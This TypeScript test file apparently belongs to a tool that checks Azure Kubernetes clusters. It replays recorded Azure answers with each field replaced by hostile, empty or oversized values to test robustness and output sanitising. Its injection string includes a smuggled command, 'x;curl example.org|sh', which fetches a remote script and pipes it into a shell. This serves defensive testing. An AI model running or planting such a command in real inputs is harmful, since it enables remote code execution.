import { describe, expect, it } from '@jest/globals'
import type { ResourceId } from '../../../../src/arm/resource-id.ts'
import type { Azure } from '../../../../src/azure/index.ts'
import { hostile } from '../../report/hostile-texts.ts'
import { healthyKit, judge, stored } from './rules-kit.ts'

type Answers = Map<string, unknown>

/** Returns a client that stores the answers of Azure. */
function recording(answers: Answers) {
  return (azure: Azure): Azure => ({
    ...azure,
    read: async <T>(id: ResourceId) => {
      const answer = await azure.read<T>(id)
      answers.set(id, answer)
      return answer
    },
    async *list<T>(path: string, type: string) {
      // One size of machines is enough, and a copy of all sizes takes long.
      const entries = (await Array.fromAsync(azure.list<T>(path, type))).filter(isUsed)
      answers.set(path, entries)
      yield* entries
    }
  })
}

function isUsed(entry: unknown): boolean {
  const { resourceType, name } = entry as { resourceType?: string; name?: string }
  return resourceType === undefined || name === 'Standard_D4d_v5'
}

/** Returns a client that repeats stored answers, each changed by a function. */
function repeating(answers: Answers, change: (answer: unknown) => unknown) {
  return (azure: Azure): Azure => ({
    ...azure,
    read: async <T>(id: ResourceId) => change(answers.get(id)) as T,
    async *list<T>(path: string) {
      const entries = answers.get(path)
      if (Array.isArray(entries)) yield* entries.map(change) as T[]
    }
  })
}

/** Returns a copy of an answer with another value for every member of a name. */
function withMember(answer: unknown, name: string, value: unknown): unknown {
  return JSON.parse(JSON.stringify(answer ?? null), (key, each: unknown) => (key === name ? value : each))
}

/** Returns a cluster that every rule about Azure reads far into. */
function busyKit() {
  const kit = healthyKit()
  Object.assign(stored(kit, kit.cluster).properties, {
    autoUpgradeProfile: { upgradeChannel: 'none', nodeOSUpgradeChannel: 'NodeImage' },
    upgradeSettings: { overrideSettings: { forceUpgrade: true, until: '2026-01-01T00:00:00Z' } }
  })
  return kit
}

function membersOf(answers: Answers): readonly string[] {
  const names = new Set<string>()
  JSON.parse(JSON.stringify([...answers.values()]), (key, each: unknown) => {
    if (!/^\d*$|\/|\./.test(key)) names.add(key)
    return each
  })
  return [...names]
}

const HOSTILE = [...Object.values(hostile), 'x;curl example.org|sh', 'x'.repeat(100_000)].join('')

describe('answers of Azure', () => {
  it('reach findings on one line each, and commands as one word', async () => {
    const kit = busyKit()
    const answers: Answers = new Map()
    await judge(kit, { azure: recording(answers) })
    for (const name of membersOf(answers)) {
      const changed = repeating(answers, answer => withMember(answer, name, HOSTILE))
      for (const { subject, evidence, remedy } of await judge(kit, { azure: changed })) {
        expect(subject.length).toBeLessThanOrEqual(500)
        expect(evidence.length + remedy.length).toBeLessThanOrEqual(8000)
        expect(`${subject}${evidence}${remedy}`).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
      }
    }
  })

  it.each([
    ['null', null],
    ['an empty object', {}],
    ['an empty list', []],
    ['another text', 'x']
  ])('end no run with %s in place of any member', async (_, value) => {
    const kit = busyKit()
    const answers: Answers = new Map()
    await judge(kit, { azure: recording(answers) })
    const members = membersOf(answers).filter(name => name !== 'location')
    expect(members.length).toBeGreaterThan(50)
    for (const name of members) {
      const found = judge(kit, { azure: repeating(answers, answer => withMember(answer, name, value)) })
      await expect(found.then(() => name)).resolves.toBe(name)
    }
  })
})
